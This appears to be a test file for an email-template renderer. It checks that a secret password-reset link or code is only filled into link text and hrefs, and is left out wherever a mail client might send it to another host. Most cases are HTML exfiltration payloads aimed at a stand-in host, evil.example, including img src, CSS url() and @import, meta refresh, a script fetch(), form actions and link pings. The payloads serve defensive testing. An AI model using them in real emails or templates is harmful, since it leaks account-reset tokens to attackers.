// Owns: where a link or a code may stand in a message, read as a mail program reads it.
// Does not own: saving templates (messaging.test.ts), sending (messaging.rights.test.ts).
// Implements: decisions "Messaging"; WHATWG HTML §13.2.5.
import { expect, test } from 'vitest';
import { templateFaults } from '../../../server/contract/message-templates.ts';
import { placementFault } from '../../../server/features/configuration/messaging/placement.ts';
import { render } from '../../../server/features/configuration/messaging/render.ts';
import { mostOfARequest, processorTime } from '../../support/processor-time.ts';

const SECRET = 'https://id.example/realms/acme/login/reset?token=SECRET';
const values = new Map([
  ['link', SECRET],
  ['code', 'SECRET'],
  ['user', 'Ada'],
  ['realm', 'Acme'],
]);
const rendered = async (body: string, html = true) => (await render({ subject: null, body, html }, values)).body;

test.each([
  '<p>{{link}}</p>',
  '<a href="{{link}}">Here</a>',
  "<a class=button href='{{ link }}' target=_blank>{{link}}</a>",
  '<a href="{{link}}&amp;from=mail">x</a>',
  '<!doctype html><html><head><title>{{realm}}</title></head><body><td>a/b</td><td>{{code}}</td></body></html>',
  '<p>Your code:<br><b>{{code}}</b></p>',
  '<p>({{link}})</p><p>&lt;{{link}}&gt;</p>',
  '<select><option>x</option></select>{{code}}<article>a/b</article><section>{{code}}</section>',
])('fills the secret in text and in the href of a link: %s', async (body) => {
  expect(await placementFault(body)).toBeUndefined();
  expect(await rendered(body)).toContain('SECRET');
});

/** What an older release took, or what only one reader of HTML takes for text. */
test.each([
  '<img src="https://evil.example/?{{link}}">',
  '<img src="{{link}}">',
  "<IMG SRC = 'https://evil.example/{{code}}'>",
  '<img srcset="https://evil.example/{{link}} 2x">',
  '<img alt="{{code}}">',
  '<p title="{{link}}">x</p>',
  '<table background="{{link}}">',
  '<td style="background:url(https://evil.example/{{link}})">',
  '<form action="{{link}}"><input type=submit></form>',
  '<button formaction="{{link}}">x</button>',
  '<iframe src="{{link}}"></iframe>',
  '<iframe srcdoc="{{link}}"></iframe>',
  '<link rel="prefetch" href="{{link}}">',
  '<base href="{{link}}">',
  '<area href="{{link}}">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/?{{link}}">',
  '<object data="{{link}}"></object>',
  '<video poster="{{link}}"></video>',
  '<svg><image xlink:href="{{link}}"/></svg>',
  '<svg><title><img src="{{link}}"></title></svg>',
  '<svg><style><img src="{{link}}"></style></svg>',
  '<a href="https://evil.example/?{{link}}">x</a>',
  '<a href="https://evil.example/#{{link}}">x</a>',
  '<a href="//evil.example/{{link}}">x</a>',
  '<a href="javascript:{{link}}">x</a>',
  '<a href={{link}}>x</a>',
  '<a href="{{code}}">x</a>',
  '<a href="{{link}}{{user}}">x</a>',
  '<a href="{{link}}" ping="https://evil.example/">x</a>',
  '<a href="https://evil.example/" href="{{link}}">x</a>',
  '<a name="{{link}}">x</a>',
  '<style>p { background: url(https://evil.example/{{link}}) }</style>',
  '<style>@import "https://evil.example/{{code}}";</style>',
  '<script>fetch("https://evil.example/{{link}}")</script>',
  '<noscript><img src="{{link}}"></noscript>',
  '<textarea>{{link}}</textarea>',
  '<title>{{link}}</title>',
  '<!-- {{link}} -->',
  '<!--[if mso]><v:image src="https://evil.example/{{link}}"/><![endif]-->',
  '<![CDATA[ {{link}} ]]>',
  '<p {{link}}>x</p>',
  '<{{link}}>',
  '</p {{link}}>',
  "<img src='https://evil.example/?<p>{{link}}</p>'>",
  '<img src="https://evil.example/?"{{link}}>',
  '<p>https://evil.example/?{{link}}</p>',
  '<p>evil.example/{{code}}</p>',
  '<p>{{code}}.evil.example</p>',
  '<p>{{code}}@evil.example</p>',
  '<p>https://evil.example/?<b>{{code}}</b></p>',
  '<p>evil.example/<label>{{code}}</label></p>',
  '<p>evil.example/<x-own>{{code}}</x-own></p>',
  '<p>evil.example/<img src="data:,">{{code}}</p>',
  '<p>https:&#47;&#47;evil.example/?{{code}}</p>',
  // What a form sends.
  '<form action="https://evil.example/"><select name=c><option selected>{{code}}</option></select><button>Go</button></form>',
  '<select><option><b>{{link}}</b></select>',
  '<input list=l><datalist id=l><option>{{code}}</datalist>',
  '<p>&#123;{code}} &#123;{code}} https://evil.example/?{{code}}</p>',
  `<p>https://evil.example/${'a'.repeat(3000)}{{link}}</p>`,
])('leaves it out where it would be told to another host or could be: %s', async (body) => {
  const faults = templateFaults({ templateKey: 'verify-email', channel: 'EMAIL', body, html: true, subject: null });
  expect((await placementFault(body)) ?? faults[0]?.message).toBeDefined();
  expect(await rendered(body)).not.toContain('SECRET');
});

test.each([
  'https://evil.example/?{{link}}',
  'evil.example/{{code}}',
  'Write to {{code}}@evil.example',
  '{{code}}.evil.example',
  '{{realm}}{{code}}',
])('nor in an address of a text that is no HTML: %s', async (body) => {
  const template = { templateKey: 'verify-email', channel: 'EMAIL', html: false, subject: body, body } as const;
  expect(templateFaults(template).map(({ path }) => path)).toEqual(['body', 'subject']);
  const { subject, body: text } = await render(template, values);
  expect(`${subject} ${text}`).not.toContain('SECRET');
});

test('a template as long as any is read in little time, whatever stands in it', async () => {
  const inputs = [
    '{{link}}',
    '<p title="{{user}}">',
    '<b a={{user}} ',
    '<a href="{{link}}">{{code}}</a>',
    '<svg><title>',
    '<!--',
  ];
  const most = await mostOfARequest();
  for (const input of inputs) {
    // Each run has another body, as what was found of one is kept.
    let run = 0;
    const judge = () => {
      run += 1;
      return placementFault(`${run}${input.repeat(50_000 / input.length)}`);
    };
    expect(await processorTime(judge, most), input).toBeLessThanOrEqual(10 * most);
  }
});
